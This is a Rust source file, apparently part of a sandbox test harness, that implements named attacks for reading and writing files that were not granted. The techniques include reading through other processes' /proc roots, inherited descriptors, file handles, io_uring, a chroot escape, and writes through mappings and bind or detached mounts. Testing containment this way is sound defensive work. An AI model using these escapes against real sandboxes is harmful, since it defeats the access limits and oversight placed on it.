//! Reading and writing what was not granted.

use crate::nr;
use crate::sys::{self, HERE, call};
use crate::{Named, Outcome};
use std::ffi::OsString;
use std::fs::{self, File, FileTimes, OpenOptions};
use std::io::{self, Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{PermissionsExt, chroot, symlink};
use std::path::Path;
use std::time::SystemTime;

pub const ATTACKS: &[Named] = &[
    ("read", read),
    ("read_by_symbolic_link", read_by_symbolic_link),
    ("read_by_hard_link", read_by_hard_link),
    ("read_by_processes", read_by_processes),
    ("read_by_descriptors", read_by_descriptors),
    ("read_by_handle", read_by_handle),
    ("read_by_uring", read_by_uring),
    ("read_above_the_root", read_above_the_root),
    ("append", append),
    ("append_by_symbolic_link", append_by_symbolic_link),
    ("append_by_hard_link", append_by_hard_link),
    ("write", write),
    ("write_by_mapping", write_by_mapping),
    ("write_by_uring", write_by_uring),
    ("write_by_bind_mount", write_by_bind_mount),
    ("write_by_detached_mount", write_by_detached_mount),
    ("rename", rename),
    ("hard_link", hard_link),
    ("remove", remove),
    ("chmod", chmod),
    ("age", age),
    ("attribute", attribute),
    ("mount_over", mount_over),
    ("tool_handle", tool_handle),
    ("tool_attribute", tool_attribute),
];

/// Prints a file.
fn read(arguments: &[OsString]) -> Outcome {
    print(File::open(&arguments[0])?)
}

fn print(mut file: File) -> Outcome {
    let mut text = Vec::new();
    file.read_to_end(&mut text)?;
    io::stdout().write_all(&text)
}

/// Prints the first file by a new link to it, which the second argument names.
fn read_by_symbolic_link(arguments: &[OsString]) -> Outcome {
    symlink(&arguments[0], &arguments[1])?;
    read(&arguments[1..])
}

fn read_by_hard_link(arguments: &[OsString]) -> Outcome {
    fs::hard_link(&arguments[0], &arguments[1])?;
    read(&arguments[1..])
}

/// Prints a file of an absolute path by the root of any other process, or by what lies above its directory.
fn read_by_processes(arguments: &[OsString]) -> Outcome {
    let below = Path::new(&arguments[0]).strip_prefix("/").expect("an absolute path");
    let mut result = Err(io::ErrorKind::NotFound.into());
    for entry in fs::read_dir("/proc")? {
        let process = entry?.path();
        let is_other = |name: &str| name.parse().is_ok_and(|pid: u32| pid != std::process::id());
        if process.file_name().and_then(|name| name.to_str()).is_some_and(is_other) {
            for root in ["root", "cwd/../../../../../../../.."] {
                result = File::open(process.join(root).join(below)).and_then(print);
                if result.is_ok() {
                    return result;
                }
            }
        }
    }
    result
}

/// Prints the file of that name in any directory that a descriptor leads to.
fn read_by_descriptors(arguments: &[OsString]) -> Outcome {
    let name = sys::path(&arguments[0]);
    let open = |directory| call(nr::OPENAT, [directory, name.as_ptr() as usize, 0, 0, 0, 0]);
    let opened = (3..256).find_map(|directory| open(directory).ok());
    print(sys::file(opened.ok_or(io::ErrorKind::NotFound)?))
}

/// So many bytes hold any handle, with its length and its type before it.
const HANDLE: usize = 8 + 128;

/// Prints the file that the handle of the second argument names, on the file system of the first.
fn read_by_handle(arguments: &[OsString]) -> Outcome {
    let text = arguments[1].to_string_lossy();
    let mut handle: Vec<u8> = text.split(',').map(|byte| byte.parse().expect("a byte")).collect();
    let directory = File::open(&arguments[0])?;
    let words = [directory.as_raw_fd() as usize, handle.as_mut_ptr() as usize, 0, 0, 0, 0];
    print(sys::file(call(nr::OPEN_BY_HANDLE_AT, words)?))
}

/// For the host: the handle of a file.
fn tool_handle(arguments: &[OsString]) -> Outcome {
    let mut handle = [0_u8; HANDLE];
    handle[..4].copy_from_slice(&128_u32.to_ne_bytes());
    let path = sys::path(&arguments[0]);
    let mut mount = 0_i32;
    let [made, mount] = [handle.as_mut_ptr() as usize, (&raw mut mount) as usize];
    call(nr::NAME_TO_HANDLE_AT, [HERE, path.as_ptr() as usize, made, mount, 0, 0])?;
    println!("{}", handle.map(|byte| byte.to_string()).join(","));
    Ok(())
}

fn read_by_uring(arguments: &[OsString]) -> Outcome {
    print(sys::file(sys::uring_open(&arguments[0], 0, 0)?))
}

/// Makes the second argument the root while this process stays outside it, where `..` is no longer stopped, and prints
/// the file of the first.
fn read_above_the_root(arguments: &[OsString]) -> Outcome {
    fs::create_dir(&arguments[1])?;
    if chroot(&arguments[1]).is_err() {
        // Whoever has not the right has it in a user namespace of their own.
        unshare(NEW_USERS)?;
        chroot(&arguments[1])?;
    }
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    chroot(".")?;
    read(arguments)
}

/// Appends the second argument to the file that the first one names.
fn append(arguments: &[OsString]) -> Outcome {
    OpenOptions::new().append(true).open(&arguments[0])?.write_all(arguments[1].as_encoded_bytes())
}

/// Appends to the first file by a new link to it, which the second argument names.
fn append_by_symbolic_link(arguments: &[OsString]) -> Outcome {
    symlink(&arguments[0], &arguments[1])?;
    append(&arguments[1..])
}

fn append_by_hard_link(arguments: &[OsString]) -> Outcome {
    fs::hard_link(&arguments[0], &arguments[1])?;
    append(&arguments[1..])
}

/// Makes or empties the file of the first argument, and writes the second to it.
fn write(arguments: &[OsString]) -> Outcome {
    fs::write(&arguments[0], arguments[1].as_encoded_bytes())
}

/// Has the kernel copy the beginning of the second file into a mapping of the first.
fn write_by_mapping(arguments: &[OsString]) -> Outcome {
    const LENGTH: usize = 4;
    let target = OpenOptions::new().read(true).write(true).open(&arguments[0])?;
    let mapping = sys::map(target.as_raw_fd() as usize, 0, LENGTH)?;
    let source = File::open(&arguments[1])?;
    call(nr::READ, [source.as_raw_fd() as usize, mapping, LENGTH, 0, 0, 0]).map(drop)
}

fn write_by_uring(arguments: &[OsString]) -> Outcome {
    sys::file(sys::uring_open(&arguments[0], sys::O_WRONLY, 0)?).write_all(b"x")
}

// linux/sched.h, linux/mount.h, fcntl.h
const NEW_USERS: usize = 0x1000_0000;
const NEW_MOUNTS: usize = 0x2_0000;
const REMOUNT: usize = 32;
const BIND: usize = 4096;
const RECURSIVE: usize = 0x4000;
const PRIVATE: usize = 0x4_0000;
const READ_ONLY: u64 = 1;
const EMPTY_PATH: usize = 0x1000;
const CLONE_TREE: usize = 1;

fn unshare(what: usize) -> Outcome {
    call(nr::UNSHARE, [what, 0, 0, 0, 0, 0]).map(drop)
}

fn mount(from: &OsString, to: &OsString, flags: usize) -> Outcome {
    let [from, to] = [from, to].map(sys::path);
    call(nr::MOUNT, [from.as_ptr() as usize, to.as_ptr() as usize, 0, flags, 0, 0]).map(drop)
}

/// Whoever has the right keeps it, since mounts that a new user namespace takes over are locked. Others get it there.
fn mounts_of_its_own() -> Outcome {
    unshare(NEW_MOUNTS).or_else(|_| unshare(NEW_USERS | NEW_MOUNTS))?;
    // What is mounted from now on must not reach anybody else.
    let root = OsString::from("/");
    mount(&root, &root, PRIVATE | RECURSIVE)
}

/// Among mounts of its own: shows the directory of the first argument at the second, makes that writable, and writes
/// to the file of the third there. Nobody else sees the mount, but everybody the file.
fn write_by_bind_mount(arguments: &[OsString]) -> Outcome {
    let [from, to, name] = [0, 1, 2].map(|at| &arguments[at]);
    fs::create_dir(to)?;
    mounts_of_its_own()?;
    mount(from, to, BIND)?;
    // Where nothing was read-only it need not go through: the write decides.
    let _ = mount(from, to, BIND | REMOUNT);
    fs::write(Path::new(to).join(name), "x")
}

/// The same by the calls that need no place to mount at.
fn write_by_detached_mount(arguments: &[OsString]) -> Outcome {
    mounts_of_its_own()?;
    let [from, name] = [0, 1].map(|at| sys::path(&arguments[at]));
    let tree = call(nr::OPEN_TREE, [HERE, from.as_ptr() as usize, CLONE_TREE, 0, 0, 0])?;
    // A `struct mount_attr`: what is set, what is cleared.
    let attributes = [0_u64, READ_ONLY, 0, 0];
    let address = attributes.as_ptr() as usize;
    let _ = call(nr::MOUNT_SETATTR, [tree, c"".as_ptr() as usize, EMPTY_PATH, address, 32, 0]);
    let file = call(nr::OPENAT, [tree, name.as_ptr() as usize, sys::O_WRONLY, 0, 0, 0])?;
    sys::file(file).write_all(b"x")
}

/// Mounts the first file over the second, for everybody.
fn mount_over(arguments: &[OsString]) -> Outcome {
    mount(&arguments[0], &arguments[1], BIND)
}

fn rename(arguments: &[OsString]) -> Outcome {
    fs::rename(&arguments[0], &arguments[1])
}

fn hard_link(arguments: &[OsString]) -> Outcome {
    fs::hard_link(&arguments[0], &arguments[1])
}

fn remove(arguments: &[OsString]) -> Outcome {
    fs::remove_file(&arguments[0])
}

/// Gives the file of the first argument the octal mode of the second.
fn chmod(arguments: &[OsString]) -> Outcome {
    let mode = u32::from_str_radix(&arguments[1].to_string_lossy(), 8).expect("a mode");
    fs::set_permissions(&arguments[0], fs::Permissions::from_mode(mode))
}

/// Dates a file back to the beginning of time.
fn age(arguments: &[OsString]) -> Outcome {
    File::open(&arguments[0])?.set_times(FileTimes::new().set_modified(SystemTime::UNIX_EPOCH))
}

/// Gives the file of the first argument the extended attribute of the second, whose value is the third's bytes.
fn attribute(arguments: &[OsString]) -> Outcome {
    let [path, name] = [0, 1].map(|at| sys::path(&arguments[at]));
    let text = arguments[2].to_string_lossy();
    let value: Vec<u8> = text.split(',').map(|byte| byte.parse().expect("a byte")).collect();
    let address = value.as_ptr() as usize;
    let words = [path.as_ptr() as usize, name.as_ptr() as usize, address, value.len(), 0, 0];
    call(nr::SETXATTR, words).map(drop)
}

/// For the host: whether the file of the first argument has the attribute of the second.
fn tool_attribute(arguments: &[OsString]) -> Outcome {
    let [path, name] = [0, 1].map(|at| sys::path(&arguments[at]));
    call(nr::GETXATTR, [path.as_ptr() as usize, name.as_ptr() as usize, 0, 0, 0, 0])?;
    println!("there");
    Ok(())
}
